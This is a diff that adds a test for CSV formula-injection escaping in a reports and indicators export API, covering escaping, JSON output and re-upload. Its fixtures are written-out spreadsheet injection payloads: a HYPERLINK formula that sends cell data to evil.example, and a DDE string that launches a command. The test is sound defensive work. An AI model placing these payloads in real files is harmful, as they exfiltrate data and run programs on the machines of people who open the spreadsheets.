@@ -112,3 +112,73 @@ async def test_reports_export_round_trip(make_client: MakeClient, admin: httpx.A
     assert [
         r["summary"] for r in await report_history(clerk, "1.1.1", PERIOD) if r["department"] == "children"
     ] == ["=増加傾向が続いています"]
+
+
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "+1+1",
+    "@SUM(1+1)",
+    "-x",
+    "'quoted",
+    "''twice",
+    "'=already escaped by hand",
+    "\tindented",
+    "plain ' inside",
+]
+
+
+def cells_of(exported: bytes, key: str) -> list[str]:
+    """One column of a CSV export, as the file holds it."""
+    return [row[key] for row in csv.DictReader(io.StringIO(exported.decode("utf-8-sig"), newline=""))]
+
+
+async def test_formula_escaping_round_trip(make_client: MakeClient, admin: httpx.AsyncClient) -> None:
+    """Text cells are escaped in CSV, never in JSON, numbers stay plain, and an upload restores the text."""
+    clerk = await make_client("department", department="children")
+    ids = []
+    for number, note in enumerate(HOSTILE):
+        body = {
+            "name": f"=cmd|' /C calc'!A{number}",
+            "unit": "+1+1",
+            "baseline": 0,
+            "target": -10,
+            "department": "children",
+        }
+        response = await admin.post("/api/v1/guidelines/1.1.1/indicators", json=body)
+        assert response.status_code == 201, response.text
+        ids.append(response.json()["id"])
+        await post_value(clerk, ids[-1], PERIOD, -5, note)
+    await post_report(clerk, "1.1.1", "children", "on_track", HOSTILE[0])
+    await post_report(clerk, "1.3.1", "children", "on_track", "'quoted")
+
+    values = (await clerk.get("/api/v1/export/values", params=FILTER)).content
+    assert cells_of(values, "note") == ["'" + note if note[0] in "=+-@\t'" else note for note in HOSTILE]
+    assert set(cells_of(values, "indicator_name")) == {f"'=cmd|' /C calc'!A{n}" for n in range(len(HOSTILE))}
+    assert set(cells_of(values, "unit")) == {"'+1+1"}
+    assert set(cells_of(values, "value")) == {"-5.0"}  # numbers are never escaped
+    assert set(cells_of(values, "target")) == {"-10.0"}
+    reports = (await clerk.get("/api/v1/export/reports", params=FILTER)).content
+    assert cells_of(reports, "summary") == ["'" + HOSTILE[0], "''quoted"]
+    as_json = (await clerk.get("/api/v1/export/values", params={**FILTER, "format": "json"})).json()["items"]
+    assert [row["note"] for row in as_json] == HOSTILE
+    assert {row["unit"] for row in as_json} == {"+1+1"}
+
+    for exported, name, kind, count in (
+        (values, "wlbtrack-values.csv", "values", len(HOSTILE)),
+        (reports, "wlbtrack-reports.csv", "reports", 2),
+        (excel_resave(values, {}), "wlbtrack-values.csv", "values", len(HOSTILE)),
+    ):
+        response = await upload(clerk, exported, name, "text/csv")
+        assert response.status_code == 201, response.text
+        assert response.json()[kind] == {"written": 0, "unchanged": count, "skipped": 0}
+    assert [[v["note"] for v in await value_history(clerk, i)] for i in ids] == [[note] for note in HOSTILE]
+    summaries = [r["summary"] for g in ("1.1.1", "1.3.1") for r in await report_history(clerk, g, PERIOD)]
+    assert summaries == [HOSTILE[0], "'quoted"]
+
+    edited = excel_resave(values, {(1, "value"): "-6"})
+    response = await upload(clerk, edited, "wlbtrack-values.csv", "text/csv")
+    assert response.json()["values"] == {"written": 1, "unchanged": len(HOSTILE) - 1, "skipped": 0}
+    assert [(v["value"], v["note"]) for v in await value_history(clerk, ids[0])] == [
+        (-5, HOSTILE[0]),
+        (-6, HOSTILE[0]),
+    ]
